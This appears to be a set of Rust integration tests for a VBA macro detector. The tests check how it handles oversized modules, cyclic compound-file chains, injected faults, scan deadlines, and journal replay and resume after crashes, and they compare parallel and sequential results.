        ScanOutcome::Salvaged(verdicts) => {
            assert_eq!(verdicts.len(), 1);
            assert!(verdicts[0].module_name.starts_with("salvaged_"));
        }
        other => panic!("expected Salvaged, got {other:?}"),
    }
}

/// A module whose decompressed source exceeds the configured cap must be
/// reported as a limit breach, not silently truncated or salvaged.
#[test]
fn fixture_decompression_bomb_trips_limit_exceeded() {
    let detector = tiny_detector();
    let mut code = String::from("Sub Bomb()\r\n");
    for _ in 0..2000 {
        code.push_str("    s = s & \"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"\r\n");
    }
    code.push_str("End Sub\r\n");
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", &code);
    let bin = b.build().unwrap();

    let mut limits = ScanLimits::default();
    limits.ovba.max_module_bytes = 4096; // far below the ~100 KiB source
    match scan_bytes(&detector, &bin, &limits) {
        ScanOutcome::Failed {
            class: FailureClass::LimitExceeded,
            ..
        } => {}
        other => panic!("expected LimitExceeded failure, got {other:?}"),
    }
    // The same document under default limits parses fine.
    assert!(matches!(
        scan_bytes(&detector, &bin, &ScanLimits::default()),
        ScanOutcome::Macros(_)
    ));
}

/// A compound file whose directory chain self-loops must come back as a
/// cyclic-chain failure, not an infinite walk.
#[test]
fn fixture_self_looping_fat_chain_is_reported_as_cycle() {
    let detector = tiny_detector();
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", "Sub A()\r\n    x = 1\r\nEnd Sub\r\n");
    let mut bytes = b.build().unwrap();

    let first_dir = u32::from_le_bytes(bytes[48..52].try_into().unwrap());
    let first_fat = u32::from_le_bytes(bytes[76..80].try_into().unwrap());
    // Patch the FAT so the first directory sector chains to itself.
    let fat_off = 512 + first_fat as usize * 512 + 4 * first_dir as usize;
    bytes[fat_off..fat_off + 4].copy_from_slice(&first_dir.to_le_bytes());

    assert!(matches!(
        vbadet_ole::OleFile::parse(&bytes),
        Err(vbadet_ole::OleError::ChainCycle { .. })
    ));
    match scan_bytes(&detector, &bytes, &ScanLimits::default()) {
        ScanOutcome::Failed {
            class: FailureClass::CyclicChain,
            ..
        } => {}
        other => panic!("expected CyclicChain failure, got {other:?}"),
    }
}
