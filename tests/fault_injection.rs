//! Fault-injection suite: only meaningful when the `faultpoints` feature
//! compiles the injection registry in, so the whole file is gated.
//!
//! The faultpoint registry is process-global, and Rust runs integration
//! tests in parallel threads — every test here serializes on `TEST_LOCK`
//! and clears the registry on entry and exit.
#![cfg(feature = "faultpoints")]

use std::panic::AssertUnwindSafe;
use std::sync::{Mutex, MutexGuard};

use vbadet::{
    replay_journal, scan_bytes_with_policy, scan_paths_journaled, scan_paths_with_policy, Detector,
    DetectorConfig, FailureClass, LadderRung, ScanJournal, ScanOutcome, ScanPolicy,
};
use vbadet_corpus::CorpusSpec;
use vbadet_faultpoint::{clear, configure, hit_count};
use vbadet_ole::OleBuilder;
use vbadet_ovba::VbaProjectBuilder;

static TEST_LOCK: Mutex<()> = Mutex::new(());

/// Serialize tests that arm the global registry; recover from a poisoned
/// lock so one failing test doesn't cascade into every later one.
fn registry_guard() -> MutexGuard<'static, ()> {
    let guard = TEST_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    clear();
    guard
}

fn tiny_detector() -> Detector {
    // Verdict quality is irrelevant here; the detector only has to score
    // whatever the injected faults leave standing.
    Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.002),
    )
}

fn macro_document() -> Vec<u8> {
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
    b.build().unwrap()
}

fn clean_document() -> Vec<u8> {
    let mut ole = OleBuilder::new();
    ole.add_stream("WordDocument", b"plain text, no project")
        .unwrap();
    ole.build()
}

#[test]
fn ladder_recovers_from_an_injected_parser_panic() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let doc = macro_document();

    // Rung 1 (and only rung 1) blows up with a simulated parser bug.
    configure("scan::full-parse", "panic(injected parser bug)").unwrap();

    // Without the ladder the panic is contained but the document is lost.
    let flat = scan_bytes_with_policy(det, &doc, &ScanPolicy::default());
    match &flat {
        ScanOutcome::Failed {
            class: FailureClass::Panic,
            detail,
        } => {
            assert!(
                detail.contains("injected parser bug"),
                "detail was {detail:?}"
            )
        }
        other => panic!("expected a contained panic, got {other:?}"),
    }

    // With the ladder the strict-limits retry rescues the same bytes.
    let laddered = scan_bytes_with_policy(det, &doc, &ScanPolicy::default().with_ladder());
    match &laddered {
        ScanOutcome::Recovered { rung, verdicts } => {
            assert_eq!(*rung, LadderRung::Strict);
            assert_eq!(verdicts.len(), 1);
        }
        other => panic!("expected a strict-rung recovery, got {other:?}"),
    }

    clear();
}

#[test]
fn injected_stall_is_cut_short_by_the_deadline() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let doc = macro_document();

    // The decompressor sleeps well past the document's 40 ms deadline.
    configure("ovba::decompress", "sleep(120)").unwrap();

    let start = std::time::Instant::now();
    let outcome = scan_bytes_with_policy(det, &doc, &ScanPolicy::default().deadline_ms(40));
    let elapsed = start.elapsed();

    assert!(
        matches!(
            outcome,
            ScanOutcome::Failed {
                class: FailureClass::Timeout,
                ..
            }
        ),
        "expected a deadline timeout, got {outcome:?}"
    );
    // One sleep fires before the first post-stall checkpoint; the scan must
    // not go on to stall again in later stages.
    assert!(
        elapsed < std::time::Duration::from_millis(1500),
        "stalled scan took {elapsed:?}"
    );

    clear();
}

#[test]
fn killed_scan_resumes_from_its_journal_without_rescanning_finished_docs() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-faultkill-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();

    let paths = [
        dir.join("a.bin"),
        dir.join("b.doc"),
        dir.join("c.bin"),
        dir.join("d.txt"),
    ];
    std::fs::write(&paths[0], macro_document()).unwrap();
    std::fs::write(&paths[1], clean_document()).unwrap();
    std::fs::write(&paths[2], macro_document()).unwrap();
    std::fs::write(&paths[3], b"not a document at all").unwrap();

    let policy = ScanPolicy::default().with_ladder();
    let reference = scan_paths_journaled(det, &paths, &policy, None, None);

    // The batch loop dies (simulated crash) when it reaches document 3.
    // `scan::between-docs` fires outside the per-document catch_unwind, so
    // the panic escapes and takes the scan down mid-batch.
    configure("scan::between-docs", "panic(killed)@3").unwrap();
    let journal_path = dir.join("scan.jsonl");
    let mut journal = ScanJournal::create(&journal_path).unwrap();
    let crash = std::panic::catch_unwind(AssertUnwindSafe(|| {
        scan_paths_journaled(det, &paths, &policy, Some(&mut journal), None)
    }));
    assert!(crash.is_err(), "the injected kill should have escaped");
    assert_eq!(hit_count("scan::between-docs"), 3);
    clear();
    drop(journal);

    // The journal holds the two documents that finished before the kill.
    let replay = replay_journal(&journal_path).unwrap();
    assert!(replay.warning.is_none());
    assert_eq!(replay.completed_count(), 2);
    assert!(replay.in_flight.is_empty());

    // Resuming replays those two and scans the rest; the merged report is
    // indistinguishable from the run that never crashed.
    let resumed = scan_paths_journaled(det, &paths, &policy, None, Some(&replay));
    assert_eq!(resumed.records, reference.records);

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn torn_journal_write_is_surfaced_and_the_tail_is_recoverable() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-faulttorn-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();

    let paths = [dir.join("a.bin"), dir.join("b.doc"), dir.join("c.bin")];
    std::fs::write(&paths[0], macro_document()).unwrap();
    std::fs::write(&paths[1], clean_document()).unwrap();
    std::fs::write(&paths[2], macro_document()).unwrap();

    // The second `done` record is torn mid-line (half the bytes reach the
    // disk, then the write errors out).
    configure("journal::torn-write", "return@2").unwrap();
    let journal_path = dir.join("scan.jsonl");
    let mut journal = ScanJournal::create(&journal_path).unwrap();
    let report = scan_paths_journaled(
        det,
        &paths,
        &ScanPolicy::default(),
        Some(&mut journal),
        None,
    );
    clear();
    drop(journal);

    // The scan itself still finishes every document — journaling is
    // best-effort — but the failure is reported, not swallowed.
    assert_eq!(report.scanned(), paths.len());
    let err = report
        .journal_error
        .as_deref()
        .expect("journal error must surface");
    assert!(err.contains("torn"), "journal error was {err:?}");

    // Replay degrades gracefully: the record before the tear survives, the
    // torn document is re-attempted, and the damage is a warning.
    let replay = replay_journal(&journal_path).unwrap();
    assert_eq!(replay.completed_count(), 1);
    assert_eq!(replay.in_flight, vec![paths[1].display().to_string()]);
    assert!(replay.warning.is_some());

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn parallel_kill_and_resume_reproduces_the_sequential_reference_exactly() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-parkill-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();

    let paths: Vec<_> = (0..12)
        .map(|i| {
            let p = dir.join(format!("doc{i:02}.bin"));
            let bytes = match i % 3 {
                0 => macro_document(),
                1 => clean_document(),
                _ => b"not a document at all".to_vec(),
            };
            std::fs::write(&p, bytes).unwrap();
            p
        })
        .collect();

    let policy = ScanPolicy {
        jobs: 4,
        ..ScanPolicy::default().with_ladder()
    };
    let reference = scan_paths_journaled(det, &paths, &policy, None, None);

    // In parallel mode `scan::between-docs` fires on the collector, once
    // per in-order emitted record — so kill@3 dies with exactly documents
    // 1-2 journaled, the same crash surface the sequential engine has,
    // however the four workers interleaved.
    configure("scan::between-docs", "panic(killed)@3").unwrap();
    let journal_path = dir.join("scan.jsonl");
    let mut journal = ScanJournal::create(&journal_path).unwrap();
    let crash = std::panic::catch_unwind(AssertUnwindSafe(|| {
        scan_paths_journaled(det, &paths, &policy, Some(&mut journal), None)
    }));
    assert!(
        crash.is_err(),
        "the injected kill should have escaped the worker pool"
    );
    assert_eq!(hit_count("scan::between-docs"), 3);
    clear();
    drop(journal);

    let replay = replay_journal(&journal_path).unwrap();
    assert!(replay.warning.is_none());
    assert_eq!(replay.completed_count(), 2);
    assert!(replay.in_flight.is_empty());

    // Resuming — again with four workers — replays the two finished
    // documents and scans the rest; the merged report matches both the
    // parallel reference and the sequential engine's resume of the same
    // journal.
    let resumed = scan_paths_journaled(det, &paths, &policy, None, Some(&replay));
    assert_eq!(resumed.records, reference.records);
    let seq_policy = ScanPolicy {
        jobs: 1,
        ..policy.clone()
    };
    let seq_resumed = scan_paths_journaled(det, &paths, &seq_policy, None, Some(&replay));
    assert_eq!(resumed.records, seq_resumed.records);

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn torn_journal_write_under_concurrency_surfaces_once_with_no_interleaved_lines() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-partorn-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();

    let paths: Vec<_> = (0..8)
        .map(|i| {
            let p = dir.join(format!("doc{i:02}.bin"));
            std::fs::write(
                &p,
                if i % 2 == 0 {
                    macro_document()
                } else {
                    clean_document()
                },
            )
            .unwrap();
            p
        })
        .collect();

    configure("journal::torn-write", "return@2").unwrap();
    let journal_path = dir.join("scan.jsonl");
    let mut journal = ScanJournal::create(&journal_path).unwrap();
    let policy = ScanPolicy {
        jobs: 4,
        ..ScanPolicy::default()
    };
    let report = scan_paths_journaled(det, &paths, &policy, Some(&mut journal), None);
    clear();
    drop(journal);

    // Every document still scanned; the write failure surfaces exactly
    // once, through the collector that owns the sole journal writer.
    assert_eq!(report.scanned(), paths.len());
    let err = report
        .journal_error
        .as_deref()
        .expect("journal error must surface");
    assert!(err.contains("torn"), "journal error was {err:?}");

    // The journal's lines were written by one thread in input order: every
    // complete line is a whole JSON object — the only damage is the single
    // torn tail, which replay downgrades to a warning.
    let raw = std::fs::read_to_string(&journal_path).unwrap();
    let lines: Vec<&str> = raw.split('\n').collect();
    for line in &lines[..lines.len() - 1] {
        assert!(
            line.starts_with('{') && line.ends_with('}') || line.is_empty(),
            "interleaved or torn journal line: {line:?}"
        );
    }
    let replay = replay_journal(&journal_path).unwrap();
    assert_eq!(replay.completed_count(), 1);
    assert_eq!(replay.in_flight, vec![paths[1].display().to_string()]);
    assert!(replay.warning.is_some());

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn file_growing_past_the_size_cap_between_stat_and_read_is_limit_exceeded() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-statrace-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();

    // The file passes the stat check at 64 bytes, then an appender grows
    // it past the cap inside the injected stat→read gap. The engine must
    // re-check after the read: growth is a typed LimitExceeded, never an
    // oversized allocation handed to the parsers.
    let victim = dir.join("growing.bin");
    std::fs::write(&victim, vec![0u8; 64]).unwrap();
    let mut policy = ScanPolicy::default();
    policy.limits.max_file_size = 2048;

    configure("scan::stat-read-gap", "sleep(200)").unwrap();
    let appender = {
        let victim = victim.clone();
        std::thread::spawn(move || {
            std::thread::sleep(std::time::Duration::from_millis(40));
            let mut file = std::fs::OpenOptions::new()
                .append(true)
                .open(&victim)
                .unwrap();
            std::io::Write::write_all(&mut file, &vec![0u8; 8192]).unwrap();
        })
    };
    let report = scan_paths_with_policy(det, &[&victim], &policy);
    appender.join().unwrap();
    clear();

    match &report.records[0].outcome {
        ScanOutcome::Failed {
            class: FailureClass::LimitExceeded,
            detail,
        } => {
            assert!(detail.contains("grew"), "detail was {detail:?}");
        }
        other => panic!("expected LimitExceeded after mid-read growth, got {other:?}"),
    }

    let _ = std::fs::remove_dir_all(&dir);
}
