//! Fault-injection suite: only meaningful when the `faultpoints` feature
//! compiles the injection registry in, so the whole file is gated.
//!
//! The faultpoint registry is process-global, and Rust runs integration
//! tests in parallel threads — every test here serializes on `TEST_LOCK`
//! and clears the registry on entry and exit.
#![cfg(feature = "faultpoints")]

use std::panic::AssertUnwindSafe;
use std::sync::{Mutex, MutexGuard};

use vbadet::{
    replay_journal, scan_bytes_with_policy, scan_paths_journaled, Detector, DetectorConfig,
    FailureClass, LadderRung, ScanJournal, ScanOutcome, ScanPolicy,
};
use vbadet_corpus::CorpusSpec;
use vbadet_faultpoint::{clear, configure, hit_count};
use vbadet_ole::OleBuilder;
use vbadet_ovba::VbaProjectBuilder;

static TEST_LOCK: Mutex<()> = Mutex::new(());

/// Serialize tests that arm the global registry; recover from a poisoned
/// lock so one failing test doesn't cascade into every later one.
fn registry_guard() -> MutexGuard<'static, ()> {
    let guard = TEST_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    clear();
    guard
}

fn tiny_detector() -> Detector {
    // Verdict quality is irrelevant here; the detector only has to score
    // whatever the injected faults leave standing.
    Detector::train_on_corpus(&DetectorConfig::default(), &CorpusSpec::paper().scaled(0.002))
}

fn macro_document() -> Vec<u8> {
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
    b.build().unwrap()
}

fn clean_document() -> Vec<u8> {
    let mut ole = OleBuilder::new();
    ole.add_stream("WordDocument", b"plain text, no project").unwrap();
    ole.build()
}

#[test]
fn ladder_recovers_from_an_injected_parser_panic() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let doc = macro_document();

    // Rung 1 (and only rung 1) blows up with a simulated parser bug.
    configure("scan::full-parse", "panic(injected parser bug)").unwrap();

    // Without the ladder the panic is contained but the document is lost.
    let flat = scan_bytes_with_policy(det, &doc, &ScanPolicy::default());
    match &flat {
        ScanOutcome::Failed { class: FailureClass::Panic, detail } => {
            assert!(detail.contains("injected parser bug"), "detail was {detail:?}")
        }
        other => panic!("expected a contained panic, got {other:?}"),
    }

    // With the ladder the strict-limits retry rescues the same bytes.
    let laddered = scan_bytes_with_policy(det, &doc, &ScanPolicy::default().with_ladder());
    match &laddered {
        ScanOutcome::Recovered { rung, verdicts } => {
            assert_eq!(*rung, LadderRung::Strict);
            assert_eq!(verdicts.len(), 1);
        }
        other => panic!("expected a strict-rung recovery, got {other:?}"),
    }

    clear();
}

#[test]
fn injected_stall_is_cut_short_by_the_deadline() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let doc = macro_document();

    // The decompressor sleeps well past the document's 40 ms deadline.
    configure("ovba::decompress", "sleep(120)").unwrap();

    let start = std::time::Instant::now();
    let outcome = scan_bytes_with_policy(det, &doc, &ScanPolicy::default().deadline_ms(40));
    let elapsed = start.elapsed();

    assert!(
        matches!(outcome, ScanOutcome::Failed { class: FailureClass::Timeout, .. }),
        "expected a deadline timeout, got {outcome:?}"
    );
    // One sleep fires before the first post-stall checkpoint; the scan must
    // not go on to stall again in later stages.
    assert!(
        elapsed < std::time::Duration::from_millis(1500),
        "stalled scan took {elapsed:?}"
    );

    clear();
}

#[test]
fn killed_scan_resumes_from_its_journal_without_rescanning_finished_docs() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-faultkill-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();

    let paths = [
        dir.join("a.bin"),
        dir.join("b.doc"),
        dir.join("c.bin"),
        dir.join("d.txt"),
    ];
    std::fs::write(&paths[0], macro_document()).unwrap();
    std::fs::write(&paths[1], clean_document()).unwrap();
    std::fs::write(&paths[2], macro_document()).unwrap();
    std::fs::write(&paths[3], b"not a document at all").unwrap();

    let policy = ScanPolicy::default().with_ladder();
    let reference = scan_paths_journaled(det, &paths, &policy, None, None);

    // The batch loop dies (simulated crash) when it reaches document 3.
    // `scan::between-docs` fires outside the per-document catch_unwind, so
    // the panic escapes and takes the scan down mid-batch.
    configure("scan::between-docs", "panic(killed)@3").unwrap();
    let journal_path = dir.join("scan.jsonl");
    let mut journal = ScanJournal::create(&journal_path).unwrap();
    let crash = std::panic::catch_unwind(AssertUnwindSafe(|| {
        scan_paths_journaled(det, &paths, &policy, Some(&mut journal), None)
    }));
    assert!(crash.is_err(), "the injected kill should have escaped");
    assert_eq!(hit_count("scan::between-docs"), 3);
    clear();
    drop(journal);

    // The journal holds the two documents that finished before the kill.
    let replay = replay_journal(&journal_path).unwrap();
    assert!(replay.warning.is_none());
    assert_eq!(replay.completed_count(), 2);
    assert!(replay.in_flight.is_empty());

    // Resuming replays those two and scans the rest; the merged report is
    // indistinguishable from the run that never crashed.
    let resumed = scan_paths_journaled(det, &paths, &policy, None, Some(&replay));
    assert_eq!(resumed.records, reference.records);

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn torn_journal_write_is_surfaced_and_the_tail_is_recoverable() {
    let _guard = registry_guard();
    let det = &tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-faulttorn-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();

    let paths = [dir.join("a.bin"), dir.join("b.doc"), dir.join("c.bin")];
    std::fs::write(&paths[0], macro_document()).unwrap();
    std::fs::write(&paths[1], clean_document()).unwrap();
    std::fs::write(&paths[2], macro_document()).unwrap();

    // The second `done` record is torn mid-line (half the bytes reach the
    // disk, then the write errors out).
    configure("journal::torn-write", "return@2").unwrap();
    let journal_path = dir.join("scan.jsonl");
    let mut journal = ScanJournal::create(&journal_path).unwrap();
    let report =
        scan_paths_journaled(det, &paths, &ScanPolicy::default(), Some(&mut journal), None);
    clear();
    drop(journal);

    // The scan itself still finishes every document — journaling is
    // best-effort — but the failure is reported, not swallowed.
    assert_eq!(report.scanned(), paths.len());
    let err = report.journal_error.as_deref().expect("journal error must surface");
    assert!(err.contains("torn"), "journal error was {err:?}");

    // Replay degrades gracefully: the record before the tear survives, the
    // torn document is re-attempted, and the damage is a warning.
    let replay = replay_journal(&journal_path).unwrap();
    assert_eq!(replay.completed_count(), 1);
    assert_eq!(replay.in_flight, vec![paths[1].display().to_string()]);
    assert!(replay.warning.is_some());

    let _ = std::fs::remove_dir_all(&dir);
}
