//! Deadline- and crash-safety resilience suite (no fault injection
//! required — the feature-gated twin lives in `fault_injection.rs`).
//!
//! Three contracts are exercised here:
//!
//! 1. **Linear time bound.** A batch of `n` documents scanned under a
//!    per-document deadline `d` completes in `O(n·d)` wall-clock time,
//!    whatever the documents contain — including inputs engineered to
//!    stall the salvage path.
//! 2. **Budget isolation.** Each document gets a fresh budget; one
//!    timed-out document must not starve its neighbours.
//! 3. **Journal round-trip.** A journaled scan replays to exactly the
//!    outcomes the live scan produced, and a resumed scan reproduces the
//!    uninterrupted report.

use std::sync::OnceLock;
use std::time::{Duration, Instant};

use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use vbadet::{
    replay_journal, scan_bytes_with_policy, scan_documents_with_policy, scan_paths_journaled,
    Detector, DetectorConfig, FailureClass, ScanJournal, ScanOutcome, ScanPolicy,
};
use vbadet_corpus::{generate_macros, CorpusSpec, DocumentFactory};
use vbadet_ole::{OleBuilder, OleFile};
use vbadet_ovba::VbaProjectBuilder;

fn tiny_detector() -> Detector {
    // Verdict quality is irrelevant here; the detector only has to score
    // whatever the budgeted pipeline still yields.
    Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.002),
    )
}

fn base_documents() -> &'static Vec<Vec<u8>> {
    static DOCS: OnceLock<Vec<Vec<u8>>> = OnceLock::new();
    DOCS.get_or_init(|| {
        let spec = CorpusSpec::paper().scaled(0.01).with_seed(0xBEEF);
        let macros = generate_macros(&spec);
        let factory = DocumentFactory::new(&spec, &macros);
        factory
            .build_all()
            .into_iter()
            .map(|f| f.bytes)
            .take(8)
            .collect()
    })
}

/// A document engineered to make the salvage path expensive: a compound
/// file holding many long near-identical modules whose `dir` stream is
/// stomped, so the strict parser fails and salvage must decompress every
/// module and run its (quadratic, length-proportional) cross-stream dedup.
fn stall_document(modules: usize, prefix_kib: usize) -> Vec<u8> {
    let shared: String =
        "    x = x + 1 ' filler line to share a long prefix\r\n".repeat(prefix_kib * 1024 / 50);
    let mut b = VbaProjectBuilder::new("Stall");
    for i in 0..modules {
        let code = format!(
            "Attribute VB_Name = \"M{i}\"\r\nSub W{i}()\r\n{shared}    y = {i}\r\nEnd Sub\r\n"
        );
        b.add_module(&format!("M{i}"), &code);
    }
    let bin = b.build().unwrap();
    // Stomp the dir stream so the structured parse fails and the scan
    // falls through to salvage.
    let parsed = OleFile::parse(&bin).unwrap();
    let mut rebuilt = OleBuilder::new();
    for path in parsed.stream_paths().unwrap() {
        let data = parsed.open_stream(&path).unwrap();
        if path == "VBA/dir" {
            rebuilt.add_stream(&path, &vec![0xFF; data.len()]).unwrap();
        } else {
            rebuilt.add_stream(&path, &data).unwrap();
        }
    }
    rebuilt.build()
}

#[test]
fn fuel_budget_turns_the_salvage_stall_vector_into_a_timeout() {
    let det = &tiny_detector();
    let doc = stall_document(24, 4);

    // Unbudgeted, the document is recoverable (salvage finds the modules).
    let unbounded = scan_bytes_with_policy(det, &doc, &ScanPolicy::default());
    assert!(
        matches!(unbounded, ScanOutcome::Salvaged(ref v) if !v.is_empty()),
        "expected salvage without a budget, got {unbounded:?}"
    );

    // Budgeted, the same bytes trip the meter long before the salvage
    // dedup finishes and come back as a typed timeout.
    let bounded = scan_bytes_with_policy(det, &doc, &ScanPolicy::default().fuel(64));
    assert!(
        matches!(
            bounded,
            ScanOutcome::Failed {
                class: FailureClass::Timeout,
                ..
            }
        ),
        "expected a fuel timeout, got {bounded:?}"
    );
}

#[test]
fn per_document_budgets_are_independent() {
    let det = &tiny_detector();
    let stall = stall_document(24, 4);
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
    let good = b.build().unwrap();
    let mut clean_ole = OleBuilder::new();
    clean_ole
        .add_stream("WordDocument", b"nothing here")
        .unwrap();
    let clean = clean_ole.build();

    let docs: Vec<(&str, &[u8])> = vec![
        ("stall.doc", &stall[..]),
        ("good.bin", &good[..]),
        ("clean.doc", &clean[..]),
    ];
    let report = scan_documents_with_policy(det, docs, &ScanPolicy::default().fuel(64));
    assert!(matches!(
        report.records[0].outcome,
        ScanOutcome::Failed {
            class: FailureClass::Timeout,
            ..
        }
    ));
    // The stalled neighbour must not have drained anyone else's budget.
    assert!(matches!(report.records[1].outcome, ScanOutcome::Macros(_)));
    assert!(matches!(report.records[2].outcome, ScanOutcome::Clean));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(3))]

    /// Any mutant corpus scanned under a 50 ms per-document deadline
    /// completes within `n·deadline + ε`: the deadline, the amortized
    /// clock checks and the shared-budget ladder together guarantee a
    /// linear wall-clock bound however hostile the bytes are.
    #[test]
    fn deadline_bounds_batch_wall_clock_linearly(seed in any::<u64>()) {
        let det = &tiny_detector();
        let bases = base_documents();
        let mut rng = StdRng::seed_from_u64(seed);
        let mut docs: Vec<Vec<u8>> = Vec::new();
        for base in bases {
            // One byte-flip mutant and one truncation mutant per base.
            let mut flipped = base.clone();
            for _ in 0..rng.gen_range(1..=8usize) {
                let i = rng.gen_range(0..flipped.len());
                flipped[i] ^= rng.gen_range(1..=255u8);
            }
            docs.push(flipped);
            docs.push(base[..rng.gen_range(1..base.len())].to_vec());
        }
        docs.push(stall_document(24, 4));

        let deadline = Duration::from_millis(50);
        let policy = ScanPolicy::default().deadline_ms(50).with_ladder();
        let labelled: Vec<(String, &[u8])> = docs
            .iter()
            .enumerate()
            .map(|(i, d)| (format!("doc{i}"), d.as_slice()))
            .collect();

        let start = Instant::now();
        let report = scan_documents_with_policy(
            det,
            labelled.iter().map(|(n, d)| (n.as_str(), *d)),
            &policy,
        );
        let elapsed = start.elapsed();

        prop_assert_eq!(report.scanned(), docs.len());
        // ε absorbs per-document overshoot (the amortized clock check is
        // read every ~64 KiB of work), scoring time (not under budget) and
        // scheduler noise on a loaded CI machine.
        let epsilon = Duration::from_secs(3) + Duration::from_millis(100) * docs.len() as u32;
        let bound = deadline * docs.len() as u32 + epsilon;
        prop_assert!(
            elapsed < bound,
            "batch of {} took {elapsed:?}, bound was {bound:?}",
            docs.len()
        );
    }
}

#[test]
fn journaled_scan_replays_and_resumes_to_identical_outcomes() {
    let det = &tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-resilience-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();

    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
    let good = b.build().unwrap();
    let mut clean_ole = OleBuilder::new();
    clean_ole.add_stream("WordDocument", b"plain").unwrap();

    let paths = [
        dir.join("good.bin"),
        dir.join("clean.doc"),
        dir.join("junk.txt"),
        dir.join("trunc.bin"),
    ];
    std::fs::write(&paths[0], &good).unwrap();
    std::fs::write(&paths[1], clean_ole.build()).unwrap();
    std::fs::write(&paths[2], b"not a document").unwrap();
    std::fs::write(&paths[3], &good[..9]).unwrap();

    let policy = ScanPolicy::default().with_ladder();

    // Uninterrupted reference run, no journal.
    let reference = scan_paths_journaled(det, &paths, &policy, None, None);
    assert!(reference.journal_error.is_none());

    // Journaled run: every outcome must be recoverable from the file.
    let journal_path = dir.join("scan.jsonl");
    let mut journal = ScanJournal::create(&journal_path).unwrap();
    let live = scan_paths_journaled(det, &paths, &policy, Some(&mut journal), None);
    assert!(live.journal_error.is_none());
    assert_eq!(live.records, reference.records);

    let replay = replay_journal(&journal_path).unwrap();
    assert!(replay.warning.is_none());
    assert_eq!(replay.completed_count(), paths.len());
    for record in &reference.records {
        assert_eq!(
            replay.outcome_for(&record.path.display().to_string()),
            Some(&record.outcome),
            "journal must round-trip the outcome of {}",
            record.path.display()
        );
    }

    // A resumed run copies the journaled outcomes instead of rescanning
    // and writes a new journal that is itself complete.
    let resumed_journal_path = dir.join("resumed.jsonl");
    let mut resumed_journal = ScanJournal::create(&resumed_journal_path).unwrap();
    let resumed = scan_paths_journaled(
        det,
        &paths,
        &policy,
        Some(&mut resumed_journal),
        Some(&replay),
    );
    assert!(resumed.journal_error.is_none());
    assert_eq!(resumed.records, reference.records);
    let second_replay = replay_journal(&resumed_journal_path).unwrap();
    assert_eq!(second_replay.completed_count(), paths.len());

    let _ = std::fs::remove_dir_all(&dir);
}
