//! Determinism suite for the parallel batch engine: `scan_paths_parallel`
//! must be observationally identical to the sequential engine — same
//! per-file outcomes, same ordering, same counters, byte-identical
//! serialized reports and journals — for any worker count, however the
//! scheduler interleaves completions.
//!
//! Every test serializes on `TEST_LOCK`: the equivalence runs spawn their
//! own worker pools (no point fighting the libtest thread pool for cores),
//! and the feature-gated stress case arms the process-global faultpoint
//! registry.

use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Mutex, MutexGuard, OnceLock};

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use vbadet::{
    replay_journal, scan_paths_journaled, scan_paths_parallel, scan_paths_with_policy, Detector,
    DetectorConfig, FailureClass, ScanJournal, ScanOutcome, ScanPolicy, ScanReport,
};
use vbadet_corpus::{generate_macros, CorpusSpec, DocumentFactory};
use vbadet_ole::OleBuilder;
use vbadet_ovba::VbaProjectBuilder;

static TEST_LOCK: Mutex<()> = Mutex::new(());

fn serial() -> MutexGuard<'static, ()> {
    TEST_LOCK.lock().unwrap_or_else(|p| p.into_inner())
}

fn detector() -> &'static Detector {
    static DET: OnceLock<Detector> = OnceLock::new();
    DET.get_or_init(|| {
        // Verdict quality is irrelevant: both engines share one detector,
        // and equivalence is about plumbing, not accuracy.
        Detector::train_on_corpus(
            &DetectorConfig::default(),
            &CorpusSpec::paper().scaled(0.002),
        )
    })
}

fn fresh_dir(tag: &str) -> PathBuf {
